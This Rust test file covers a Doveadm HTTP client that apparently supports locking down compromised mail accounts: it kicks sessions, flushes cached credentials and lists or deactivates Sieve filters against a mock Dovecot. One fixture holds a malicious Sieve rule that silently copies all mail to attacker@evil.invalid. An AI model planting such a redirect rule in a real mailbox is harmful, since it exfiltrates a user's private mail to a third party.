//! Doveadm over HTTP, answered word for word as Dovecot 2.3.19 does.

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use counterfoil_mailsystem::Doveadm;
use counterfoil_service::{MailFilter, MailSystem, MailSystemError};
use secrecy::SecretString;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::net::TcpListener;

const ALICE: &str = "alice@example.org";
const ATTACKERS: &str = "require [\"copy\"];\nredirect :copy \"attacker@evil.invalid\";\n";

/// What is answered, in this order; what was asked is kept.
#[derive(Clone, Default)]
struct Script {
    answers: Arc<Mutex<Vec<(u16, String)>>>,
    asked: Arc<Mutex<Vec<(String, String)>>>,
}

async fn answer(
    State(script): State<Script>,
    headers: HeaderMap,
    body: String,
) -> (StatusCode, String) {
    let authorization = headers["authorization"].to_str().unwrap().to_owned();
    script.asked.lock().unwrap().push((authorization, body));
    let (status, text) = script.answers.lock().unwrap().remove(0);
    (StatusCode::from_u16(status).unwrap(), text)
}

/// A doveadm that gives these answers.
async fn dovecot(answers: &[(u16, &str)]) -> (Doveadm, Script) {
    let script = Script::default();
    let owned = answers
        .iter()
        .map(|(status, text)| (*status, (*text).to_owned()));
    script.answers.lock().unwrap().extend(owned);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let router = Router::new()
        .route("/doveadm/v1", axum::routing::post(answer))
        .with_state(script.clone());
    tokio::spawn(async move { axum::serve(listener, router).await });
    let url = format!("http://{address}/doveadm/v1");
    (
        Doveadm::new(&url, &SecretString::from("key123")).unwrap(),
        script,
    )
}

fn asked(script: &Script) -> Vec<String> {
    let asked = script.asked.lock().unwrap();
    asked.iter().map(|(_, body)| body.clone()).collect()
}

fn refused(result: &Result<(), MailSystemError>) -> &'static str {
    let Err(MailSystemError::Refused(why)) = result else {
        unreachable!("{result:?}")
    };
    why
}

#[tokio::test]
async fn a_cut_off_kicks_and_makes_dovecot_forget_in_one_request() {
    let done = r#"[["doveadmResponse",[{"result":"alice@example.org"}],"0"],["doveadmResponse",[{"entries":"0"}],"1"]]"#;
    let (doveadm, script) = dovecot(&[(200, done)]).await;
    doveadm.cut_off(ALICE).await.unwrap();
    let asked = script.asked.lock().unwrap();
    // printf key123 | base64
    assert_eq!(asked[0].0, "X-Dovecot-API a2V5MTIz");
    assert_eq!(
        asked[0].1,
        r#"[["kick",{"mask":["alice@example.org"]},"0"],["authCacheFlush",{"user":["alice@example.org"]},"1"]]"#
    );
}

#[tokio::test]
async fn nobody_to_kick_is_well_but_every_other_failure_is_none() {
    let nobody = r#"[["error",{"type":"exitCode", "exitCode":68},"0"],["doveadmResponse",[{"entries":"0"}],"1"]]"#;
    let broken = r#"[["error",{"type":"exitCode", "exitCode":75},"0"],["doveadmResponse",[{"entries":"0"}],"1"]]"#;
    let remembers = r#"[["doveadmResponse",[{"result":"alice@example.org"}],"0"],["error",{"type":"exitCode", "exitCode":75},"1"]]"#;
    let half = r#"[["doveadmResponse",[{"result":"alice@example.org"}],"0"]]"#;
    let swapped = r#"[["doveadmResponse",[],"1"],["doveadmResponse",[],"0"]]"#;
    let (doveadm, _) = dovecot(&[
        (200, nobody),
        (200, broken),
        (200, remembers),
        (200, half),
        (200, swapped),
        (200, "Request must be a JSON array\n"),
        (401, ""),
        (500, ""),
    ])
    .await;
    doveadm.cut_off(ALICE).await.unwrap();
    let mut reasons = vec![];
    for _ in 0..7 {
        reasons.push(refused(&doveadm.cut_off(ALICE).await));
    }
    assert_eq!(
        reasons,
        [
            "it did not end the connections",
            "it did not forget the password it remembers",
            "it answered another number of commands",
            "it does not answer as doveadm does",
            "it does not answer as doveadm does",
            "it has another doveadm_api_key",
            "it is no doveadm, or a broken one",
        ]
    );
}

#[tokio::test]
async fn filters_come_with_their_text_and_the_running_one_first() {
    let list = r#"[["doveadmResponse",[{"script":"holiday","active":""},{"script":"evil","active":"ACTIVE"}],"0"]]"#;
    let scripts = r#"[["doveadmResponse",[{"sieve script":"require [\"copy\"];\nredirect :copy \"attacker@evil.invalid\";\n"}],"0"],["doveadmResponse",[{"sieve script":"keep;\n"}],"1"]]"#;
    let (doveadm, script) = dovecot(&[(200, list), (200, scripts)]).await;
    let filter = |name: &str, active, text: &str| MailFilter {
        name: name.into(),
        active,
        script: text.into(),
    };
    assert_eq!(
        doveadm.filters(ALICE).await.unwrap(),
        [
            filter("evil", true, ATTACKERS),
            filter("holiday", false, "keep;\n")
        ]
    );
    assert_eq!(
        asked(&script),
        [
            r#"[["sieveList",{"user":"alice@example.org"},"0"]]"#,
            r#"[["sieveGet",{"user":"alice@example.org","scriptname":"evil"},"0"],["sieveGet",{"user":"alice@example.org","scriptname":"holiday"},"1"]]"#,
        ]
    );
}

#[tokio::test]
async fn no_filter_is_no_failure_and_asks_nothing_more() {
    let (doveadm, script) = dovecot(&[(200, r#"[["doveadmResponse",[],"0"]]"#)]).await;
    assert_eq!(doveadm.filters(ALICE).await.unwrap(), []);
    assert_eq!(asked(&script).len(), 1);
}

#[tokio::test]
async fn a_login_that_dovecot_does_not_know_is_a_refusal() {
    let unknown = r#"[["error",{"type":"exitCode", "exitCode":67},"0"]]"#;
    let (doveadm, _) = dovecot(&[(200, unknown)]).await;
    let refused = doveadm.filters("no such").await.unwrap_err();
    assert_eq!(
        refused,
        MailSystemError::Refused("it did not list the filters")
    );
}

#[tokio::test]
async fn switching_off_deactivates_and_deletes_nothing() {
    let (doveadm, script) = dovecot(&[(200, r#"[["doveadmResponse",[],"0"]]"#)]).await;
    doveadm.switch_filter_off(ALICE).await.unwrap();
    assert_eq!(
        asked(&script),
        [r#"[["sieveDeactivate",{"user":"alice@example.org"},"0"]]"#]
    );
}

#[tokio::test]
async fn a_dead_or_hanging_dovecot_is_unreachable_within_two_seconds() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let key = SecretString::from("key123");
    // It takes connections and never answers.
    let hanging = Doveadm::new(&format!("http://{address}/doveadm/v1"), &key).unwrap();
    let began = Instant::now();
    assert_eq!(
        hanging.cut_off(ALICE).await,
        Err(MailSystemError::Unreachable)
    );
    assert!(began.elapsed() < Duration::from_secs(4));
    drop(listener);
    assert_eq!(
        hanging.knock().await,
        Err(MailSystemError::Unreachable),
        "nobody listens there"
    );
}

#[tokio::test]
async fn an_endless_answer_is_given_up() {
    let endless = format!(
        r#"[["doveadmResponse",[{{"script":"{}"}}],"0"]]"#,
        "x".repeat(9 << 20)
    );
    let (doveadm, _) = dovecot(&[(200, &endless)]).await;
    assert_eq!(
        doveadm.filters(ALICE).await,
        Err(MailSystemError::Refused(
            "its answer broke off or is too long"
        ))
    );
}
